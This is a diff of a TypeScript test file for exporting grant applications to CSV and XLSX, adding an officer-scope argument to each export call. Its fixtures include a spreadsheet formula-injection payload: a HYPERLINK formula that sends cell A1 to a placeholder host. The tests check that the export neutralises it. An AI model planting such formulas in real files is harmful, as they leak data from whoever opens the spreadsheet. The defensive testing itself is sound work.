@@ -17,6 +17,8 @@ import { exportHref } from "./href";
 
 const EVIL_ORGANISATION = '=HYPERLINK("http://example.invalid/?x="&A1,"Klicka här")';
 
+/** An officer's scope: every application. */
+const ALL = { kind: "all" } as const;
 let db: Db;
 let programmeId: number;
 let roundId: number;
@@ -65,7 +67,7 @@ beforeEach(async () => {
 
 describe("exportRoundApplications: CSV", () => {
   it("writes UTF-8 with BOM, ';' and CRLF, the import's columns under Swedish headings, one row per application", async () => {
-    const file = await exportRoundApplications(db, roundId, "csv");
+    const file = await exportRoundApplications(db, roundId, "csv", ALL);
     expect(file.fileName).toBe("ansokningar-HJ-2026-omgang-5.csv");
     expect(file.contentType).toBe("text/csv; charset=utf-8");
     expect([...file.body.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
@@ -94,7 +96,7 @@ describe("exportRoundApplications: CSV", () => {
   });
 
   it("prefixes every text cell Excel could run as a formula, zero-width and fullwidth starts included", async () => {
-    const evil = csvRows((await exportRoundApplications(db, roundId, "csv")).body).find((r) => r[0] === "HJ-2026-0006");
+    const evil = csvRows((await exportRoundApplications(db, roundId, "csv", ALL)).body).find((r) => r[0] === "HJ-2026-0006");
     expect(evil?.[col.organisation]).toBe(`'${EVIL_ORGANISATION}`);
     expect(evil?.[col.co_applicants]).toBe("Umeå kommun; Borås Stad");
     expect(evil?.[col.project_title]).toBe("'@SUM(1+1)");
@@ -109,7 +111,7 @@ describe("exportRoundApplications: CSV", () => {
 
   it("follows the list on screen: search, status, county, kind and order, every page", async () => {
     const rowsFor = async (query: Record<string, string>) =>
-      csvRows((await exportRoundApplications(db, roundId, "csv", listParamsSchema.parse(query))).body)
+      csvRows((await exportRoundApplications(db, roundId, "csv", ALL, listParamsSchema.parse(query))).body)
         .slice(1)
         .map((r) => r[0]);
     expect(await rowsFor({ status: "approved" })).toEqual(["HJ-2026-0001", "HJ-2026-0005"]);
@@ -128,7 +130,7 @@ describe("exportRoundApplications: CSV", () => {
 
 describe("exportRoundApplications: XLSX", () => {
   it("reads back as the CSV's values: numbers as numbers, codes with their zero, text guarded but a phone's + plain", async () => {
-    const file = await exportRoundApplications(db, roundId, "xlsx");
+    const file = await exportRoundApplications(db, roundId, "xlsx", ALL);
     expect(file.fileName).toBe("ansokningar-HJ-2026-omgang-5.xlsx");
     expect(file.contentType).toBe("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
 
@@ -142,7 +144,7 @@ describe("exportRoundApplications: XLSX", () => {
     // A Text-format cell ("@") is never run as a formula, even when edited: the phone number keeps its plain +46.
     expect(sheet[6]?.[col.contact_phone]).toBe("+46 90 12 34 56");
 
-    const csv = csvRows((await exportRoundApplications(db, roundId, "csv")).body);
+    const csv = csvRows((await exportRoundApplications(db, roundId, "csv", ALL)).body);
     const asText = sheet.map((row) => row.map((cell) => (cell === null ? "" : String(cell))));
     expect(asText.map((row, i) => (i === 6 ? row.filter((_, c) => c !== col.contact_phone) : row))).toEqual(
       csv.map((row, i) => (i === 6 ? row.filter((_, c) => c !== col.contact_phone) : row)),
@@ -150,7 +152,7 @@ describe("exportRoundApplications: XLSX", () => {
   });
 
   it("refuses a round that does not exist", async () => {
-    await expect(exportRoundApplications(db, 999, "csv")).rejects.toThrow("Omgången finns inte.");
+    await expect(exportRoundApplications(db, 999, "csv", ALL)).rejects.toThrow("Omgången finns inte.");
   });
 });
 
@@ -166,7 +168,7 @@ describe("export, edit in Excel, import into another round: the round comes back
 
   it("as CSV, saved by Swedish Excel as Windows-1252 with the codes' leading zeros dropped and one amount changed", async () => {
     withMotivations();
-    const exported = csvRows((await exportRoundApplications(db, roundId, "csv")).body);
+    const exported = csvRows((await exportRoundApplications(db, roundId, "csv", ALL)).body);
     // What Excel does to the file: numbers lose leading zeros, the text stays as it was, the officer edits a cell.
     const edited = exported.map((row, i) =>
       i === 0 ? row : row.map((cell, c) => (c === col.municipality_code || c === col.county_code ? cell.replace(/^0+(?=\d)/, "") : cell)),
@@ -182,7 +184,7 @@ describe("export, edit in Excel, import into another round: the round comes back
     expect(report.refused === 0 ? [] : report.rows.filter((r) => r.errors.length > 0)).toEqual([]);
     expect(report.imported).toBe(5);
 
-    const again = csvRows((await exportRoundApplications(db, target, "csv")).body);
+    const again = csvRows((await exportRoundApplications(db, target, "csv", ALL)).body);
     const expected = exported.filter((row) => row[0] !== "HJ-2026-0006");
     expected[4]![col.requested_amount] = "1250000";
     expect(comparable(again)).toEqual(comparable(expected));
@@ -191,7 +193,7 @@ describe("export, edit in Excel, import into another round: the round comes back
 
   it("as XLSX, opened and saved again, guarded text and a phone number's + included", async () => {
     withMotivations();
-    const exported = await readSheet(Buffer.from((await exportRoundApplications(db, roundId, "xlsx")).body));
+    const exported = await readSheet(Buffer.from((await exportRoundApplications(db, roundId, "xlsx", ALL)).body));
     // Saved again as a workbook: the values as read, the heading row included.
     const resaved = await writeXlsxFile(exported.map((row) => row.map((value) => (typeof value === "number" ? { value, type: Number } : value === null ? null : { value: String(value), type: String })))).toBuffer();
 
@@ -202,7 +204,7 @@ describe("export, edit in Excel, import into another round: the round comes back
     expect(report.rows.filter((r) => r.errors.length > 0)).toEqual([]);
     expect(report.imported).toBe(6);
 
-    const again = await readSheet(Buffer.from((await exportRoundApplications(db, target, "xlsx")).body));
+    const again = await readSheet(Buffer.from((await exportRoundApplications(db, target, "xlsx", ALL)).body));
     expect(comparable(again)).toEqual(comparable(exported));
     const evil = again.find((row) => row[col.project_title] === "'@SUM(1+1)");
     expect(evil?.[col.contact_phone]).toBe("+46 90 12 34 56");
